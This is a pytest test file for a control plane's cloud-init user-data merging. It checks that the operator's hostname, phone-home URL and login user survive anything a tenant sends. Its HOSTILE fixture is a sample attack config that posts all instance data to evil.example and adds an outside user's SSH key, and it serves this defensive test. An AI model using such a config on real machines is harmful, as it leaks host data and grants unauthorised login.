"""
What the real cloud-init makes of what we hand out.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from controlplane.boots.seed import PHONE_TRIES, Content, Machine, user_data
from controlplane.boots.states import Facts, Script
from controlplane.boots.userdata import kind_of
from tests.factories.boots import KEY, LINKS, Root
from tests.kits import unusable

BOOT = "bot_01k5x7p3r8w2v6t9q4n0m1c2d3"
SYSTEM_PYTHON = "/usr/bin/python3"
STAGE = Path(__file__).with_name("cloud_init_stage.py")
HOSTILE = """#cloud-config
merge_how: dict(replace,allow_delete)+list(replace)+str()
hostname: evil
preserve_hostname: true
phone_home: {url: http://evil.example/, post: all, tries: 1}
users: [{name: bob, ssh_authorized_keys: [ssh-ed25519 BOB]}]
runcmd: [[touch, /tenant]]
"""
MIME = f"""MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=tenant="

--=tenant=
Content-Type: text/cloud-config
Merge-Type: dict(replace)+list()+str()

{HOSTILE}
--=tenant=
Content-Type: text/x-shellscript

#!/bin/sh
echo tenant
--=tenant=--
"""
TENANTS = {
    "none": "",
    "cloud-config": HOSTILE,
    "script": "#!/bin/sh\necho tenant\n",
    "archive": f"#cloud-config-archive\n- {json.dumps(HOSTILE)}\n- {{type: text/x-shellscript, content: '#!/bin/sh'}}\n",
    "in parts": MIME,
    "in parts, with carriage returns": MIME.replace("\n", "\r\n"),
    "broken template": "## template: jinja\n#cloud-config\nruncmd: [{{ v1.no_such.thing }}\n",
    "failing boothook": "#cloud-boothook\n#!/bin/sh\nexit 1\n",
    "other letters": "#cloud-config\nfinal_message: Grüße, 世界\n",
}


@pytest.fixture(scope="module")
def version() -> str:
    """The version of the real cloud-init."""
    try:
        done = subprocess.run(["cloud-init", "--version"], capture_output=True, text=True, check=True, timeout=60)
    except (OSError, subprocess.SubprocessError) as error:
        unusable("cloud-init", f"cloud-init --version: {error}")
    return (done.stdout or done.stderr).split()[-1]


def consumed(root: Path, sent: bytes) -> dict[str, Any]:
    """What the real cloud-init would configure its modules with, after it has run the boothooks below the folder."""
    host = Root(root / "host")
    done = subprocess.run(
        [SYSTEM_PYTHON, str(STAGE), str(root / "cloud")],
        input=sent,
        env=host.environment(),
        capture_output=True,
        check=False,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr.decode()
    assert (host.root / "etc/systemd/system/boot-agent.service").exists(), "our boothook did not run"
    found: dict[str, Any] = json.loads(done.stdout.splitlines()[-1])
    return found


def sent(tenants: str) -> bytes:
    """User-data with ours and the tenant's."""
    machine = Machine(BOOT, LINKS.url(BOOT), "deploy", Facts("n1.example", instance_id=BOOT))
    kind = kind_of(tenants) if tenants else ""
    content = Content("ops", (KEY,), tenants, kind, scripts=(Script("one", "true\n"),), version=1)
    return user_data(content, machine)


@pytest.mark.parametrize("tenants", TENANTS.values(), ids=list(TENANTS))
def test_ours_holds_whatever_the_tenant_sends(version: str, tmp_path: Path, tenants: str) -> None:
    """Host name, phone-home and login are ours; the tenant's lists and other settings stand beside them; our hook has run."""
    told = consumed(tmp_path, sent(tenants))
    config = told["config"]
    assert told["version"] == version
    assert (config["hostname"], config["fqdn"], config["preserve_hostname"]) == ("n1", "n1.example", False)
    assert config["phone_home"]["url"] == f"{LINKS.url(BOOT)}phone-home"
    assert config["phone_home"]["tries"] == PHONE_TRIES
    assert config["users"][-1]["name"] == "ops"
    assert config["users"][-1]["ssh_authorized_keys"] == [KEY]
    if "bob" in tenants:
        assert config["users"][0]["name"] == "bob"
        assert config["runcmd"] == [["touch", "/tenant"]]
    if "世界" in tenants:
        assert config["final_message"] == "Grüße, 世界"
    if "x-shellscript" in tenants or tenants.startswith("#!"):
        scripts = list((tmp_path / "cloud/instances").glob("*/scripts/*"))
        assert [one.read_text(encoding="utf-8").splitlines()[0] for one in scripts] == ["#!/bin/sh"]


def test_the_same_machine_is_handed_the_same_bytes() -> None:
    """Rendering twice is rendering once, so that every process answers alike."""
    assert sent(HOSTILE) == sent(HOSTILE)


def test_the_merged_config_is_valid(version: str, tmp_path: Path) -> None:
    """What comes out of merging passes cloud-init's own schema."""
    del version
    config = consumed(tmp_path, sent(HOSTILE))["config"]
    path = tmp_path / "merged.yaml"
    path.write_text("#cloud-config\n" + json.dumps(config), encoding="utf-8")
    done = subprocess.run(
        ["cloud-init", "schema", "--config-file", str(path)], capture_output=True, text=True, check=False, timeout=60
    )
    assert done.returncode == 0, done.stdout + done.stderr
